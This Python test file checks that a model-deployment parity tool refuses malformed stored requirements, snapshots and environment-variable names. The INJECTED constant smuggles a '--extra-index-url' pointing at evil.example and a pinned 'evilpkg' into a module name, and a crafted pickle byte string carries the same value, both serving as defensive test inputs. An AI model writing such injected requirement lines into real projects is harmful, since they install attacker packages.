"""Stored documents and constructor arguments the parity checker must refuse, and how:
each with a specific ModelshipError saying what is wrong, never a crash, a silent guess, or
text that changes meaning when it is written out."""

from __future__ import annotations

import importlib.metadata
import json
import warnings
from typing import Any

import attrs
import pytest

from modelship.errors import ConfigError
from modelship.parity import (
    ArtifactScanError,
    EnvironmentSnapshot,
    Requirements,
    SnapshotError,
    check_installed,
    compare,
    requirements_txt,
    resolve_requirements,
    scan_artifact,
)


def requirements_document(**fields: Any) -> str:
    return json.dumps({"schema_version": 1, "packages": {}, **fields})


# --- module names in requirements: dotted identifiers, never a line of pip options -------

INJECTED = "x\n--extra-index-url https://evil.example/simple\nevilpkg==6.6.6"


@pytest.mark.parametrize("field", ["modules", "unresolved"])
@pytest.mark.parametrize("module", [INJECTED, "x\r--pre", "", "a b", "../etc", "a..b", "1st"])
def test_a_stored_module_name_that_is_not_a_dotted_identifier_is_refused(
    field: str, module: str
) -> None:
    with pytest.raises(SnapshotError, match=f"requirements: {field} has .* not a module name"):
        Requirements.from_json(requirements_document(**{field: [module]}))


@pytest.mark.parametrize("field", ["modules", "unresolved"])
def test_the_constructor_refuses_a_module_name_with_a_line_break(field: str) -> None:
    with pytest.raises(ConfigError, match=f"Requirements: {field} has .* not a module name"):
        Requirements(**{field: [INJECTED]})


def test_requirements_txt_of_dotted_unicode_module_names_writes_them_in_one_comment() -> None:
    reqs = Requirements(unresolved=["my_features.encoders", "café"])
    text = requirements_txt(Requirements.from_json(reqs.to_json()))
    assert text.splitlines()[-1] == (
        "# not from any installed distribution (ship this code with the model): "
        "café, my_features.encoders"
    )


def test_resolving_an_artifact_that_references_a_module_with_a_newline_is_refused() -> None:
    module = INJECTED.encode()
    # SHORT_BINUNICODE module, SHORT_BINUNICODE "f", STACK_GLOBAL, STOP
    data = b"\x80\x04\x8c" + bytes([len(module)]) + module + b"\x8c\x01f\x93."
    with pytest.raises(ArtifactScanError, match=r"not a module name.*damaged or was crafted"):
        resolve_requirements(scan_artifact(data))


# --- the requirements constructor and reader apply the snapshot's rules ------------------


@pytest.mark.parametrize(
    ("field", "value"), [("modules", "abc"), ("modules", 5), ("unresolved", b"x")]
)
def test_the_constructor_refuses_module_names_that_are_not_a_list(field: str, value: Any) -> None:
    with pytest.raises(ConfigError, match=f"Requirements: {field} must be a list of module names"):
        Requirements(**{field: value})


@pytest.mark.parametrize("dynamic", ["x", -1, True, 1.5, None])
def test_the_constructor_refuses_a_dynamic_count_that_is_not_an_integer_from_zero(
    dynamic: Any,
) -> None:
    with pytest.raises(ConfigError, match="Requirements: dynamic must be an integer >= 0"):
        Requirements(dynamic=dynamic)


def test_requirements_from_json_refuses_a_field_to_json_does_not_write() -> None:
    with pytest.raises(SnapshotError, match=r"unknown field\(s\) \['bogus'\]"):
        Requirements.from_json(requirements_document(bogus=[1, 2, 3]))


def test_requirements_from_json_refuses_a_negative_dynamic_count() -> None:
    with pytest.raises(SnapshotError, match="'dynamic' must be an integer >= 0"):
        Requirements.from_json(requirements_document(dynamic=-5))


# --- two spellings of one distribution at different versions -----------------------------

CONFLICTS = [{"Foo_Bar": "1.0", "foo-bar": "2.0"}, {"foo-bar": "2.0", "Foo_Bar": "1.0"}]


@pytest.mark.parametrize("packages", CONFLICTS)
def test_requirements_pinning_one_distribution_twice_differently_are_refused(
    packages: dict[str, str],
) -> None:
    with pytest.raises(SnapshotError, match="both name the distribution 'foo-bar'"):
        Requirements.from_json(requirements_document(packages=packages))
    with pytest.raises(ConfigError, match="both name the distribution 'foo-bar'"):
        Requirements(packages=packages)


@pytest.mark.parametrize("packages", CONFLICTS)
def test_compare_refuses_requirements_pinning_one_distribution_twice_differently(
    snapshot: EnvironmentSnapshot, packages: dict[str, str]
) -> None:
    with pytest.raises(ConfigError, match="both name the distribution 'foo-bar'"):
        compare(snapshot, snapshot, requirements=packages)


@pytest.mark.parametrize("packages", CONFLICTS)
def test_a_snapshot_pinning_one_distribution_twice_differently_is_refused(
    snapshot: EnvironmentSnapshot, packages: dict[str, str]
) -> None:
    document = {**snapshot.to_dict(), "packages": packages}
    with pytest.raises(SnapshotError, match="both name the distribution 'foo-bar'"):
        EnvironmentSnapshot.from_dict(document)


def test_two_spellings_of_one_distribution_at_one_version_are_one_pin() -> None:
    assert dict(Requirements(packages={"Foo_Bar": "1.0", "foo-bar": "1.0"})) == {"foo-bar": "1.0"}


# --- environment variable names: exact names, never patterns -----------------------------


@pytest.mark.parametrize("name", ["*", "DB_*", "", "A B", "1X", "A?", "[A]", "A\nB"])
def test_a_stored_snapshot_whose_env_has_a_name_that_is_not_a_variable_is_refused(
    snapshot: EnvironmentSnapshot, name: str
) -> None:
    document = {**snapshot.to_dict(), "env": {name: "x"}}
    with pytest.raises(SnapshotError, match=r"'env' has .* not a variable name"):
        EnvironmentSnapshot.from_dict(document)


def test_the_snapshot_constructor_refuses_an_env_pattern_as_a_name(
    snapshot: EnvironmentSnapshot,
) -> None:
    with pytest.raises(SnapshotError, match="'env' has '\\*', which is not a variable name"):
        attrs.evolve(snapshot, env={"*": "x"})


def test_compare_looks_up_the_training_variables_by_exact_name(
    snapshot: EnvironmentSnapshot, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("MODELSHIP_PARITY_TEST_INTERNAL_URL", "https://10.0.0.7/admin")
    train = attrs.evolve(snapshot, env={})
    object.__setattr__(train, "env", {"*": "x"})  # past validation, as a forged record would be
    subjects = {finding.subject for finding in compare(train).findings}
    assert "MODELSHIP_PARITY_TEST_INTERNAL_URL" not in subjects
    assert "*" in subjects  # unset in production: the one name asked for, and no other


def test_capture_records_only_variables_named_as_in_a_shell(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("MODELSHIP_PARITY_TEST_OK", "1")
    monkeypatch.setenv("MODELSHIP_PARITY_TEST.DOTTED", "2")
    snap = EnvironmentSnapshot.capture(env_allowlist=["MODELSHIP_PARITY_TEST*"])
    assert dict(snap.env) == {"MODELSHIP_PARITY_TEST_OK": "1"}
    assert EnvironmentSnapshot.from_json(snap.to_json()) == snap


# --- check_installed judges versions as compare() does ----------------------------------


def test_check_installed_finds_no_mismatch_between_two_spellings_of_one_release() -> None:
    installed = importlib.metadata.version("attrs")
    recorded = installed.removesuffix(".0") if installed.endswith(".0") else installed + ".0"
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert check_installed({"attrs": recorded}, strict=True) == ()
